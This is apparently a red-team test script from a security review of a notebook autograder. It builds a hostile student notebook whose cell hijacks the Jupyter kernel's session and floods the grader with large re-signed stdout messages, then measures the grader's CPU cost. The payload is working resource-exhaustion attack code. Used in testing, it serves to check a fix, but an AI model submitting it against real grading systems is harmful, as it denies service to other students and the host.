"""a01: re-attack of round 18's fix (at most 20,000 messages read from a kernel) with FEW, LARGE messages.

Round 18 capped the NUMBER of messages the grading process (root, outside the sandbox's CPU share) decodes. This hand-in
builds ONE stdout stream message of SIZE MiB, signs and serialises it once with the kernel's own session, then sends the
same content frames again and again (a fresh msg_id and signature each, since the client refuses a repeated signature) on the IOPub socket for FLOOD seconds (well under 20,000 messages). The kernel's cost per
message is a socket write; the grading child's is receive + HMAC over the frames + JSON decode of SIZE MiB + budgeting.
Measured like round 18 a03: CPU seconds of the grading command's processes as root (grader side) vs as the sandbox's
host uid, for (1) two honest students, (2) mallory + honest. Through `python -m grader.grade --course-dir DIR --workers 1`."""
import os, sys, time, threading, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common19 import *  # noqa
from common19 import _descends  # noqa
import types
r18 = types.ModuleType("r18")  # round 18 a03's CPU sampler and run(), with this round's /tmp folder
r18.__dict__.update(globals())
exec(open(os.path.join(os.path.dirname(HERE), "round18", "a03_message_flood_grader_cpu.py")).read()
     .replace("/tmp/attack18-a03-", "/tmp/attack19-a01-").replace("from common18 import", "from common19 import")
     .split("\ndef main():")[0], r18.__dict__)

A = "ps1_memory"
FLOOD = int(os.environ.get("FLOOD", "60"))
SIZE = int(os.environ.get("SIZE", "8"))


def hostile():
    code = (f"import time\n"
            "k = get_ipython().kernel\n"
            f"msg = k.session.msg('stream', content={{'name': 'stdout', 'text': 'x' * ({SIZE} << 20)}}, parent=k.get_parent('shell'))\n"
            "import uuid\n"
            "S = k.session; frames = S.serialize(msg); i = frames.index(b'<IDS|MSG>')\n"
            "parts = frames[i + 3:]  # parent, metadata, content: serialised once\n"
            "sock = k.iopub_socket\n"
            f"end = time.time() + {FLOOD}; n = 0\n"
            "while time.time() < end and n < 19000:\n"
            "    msg['header']['msg_id'] = uuid.uuid4().hex; h = S.pack(msg['header'])\n"
            "    sock.send_multipart(frames[:i + 1] + [S.sign([h] + parts), h] + parts); n += 1\n"
            "    if n % 50 == 0: time.sleep(0.05)\n"
            "print('sent', n)\n")
    return notebook(overrides={"quiz_q1": code}, assignment=A)


def main():
    r18.FLOOD = FLOOD
    h = honest(A)
    which = os.environ.get("RUNS", "1,2").split(",")
    if "1" in which:
        r18.run("base", {"aa_honest": h, "zz_honest": h}, 1)
    if "2" in which:
        r18.run("bigflood", {"mallory": hostile(), "zz_honest": h}, 1)


if __name__ == "__main__":
    main()
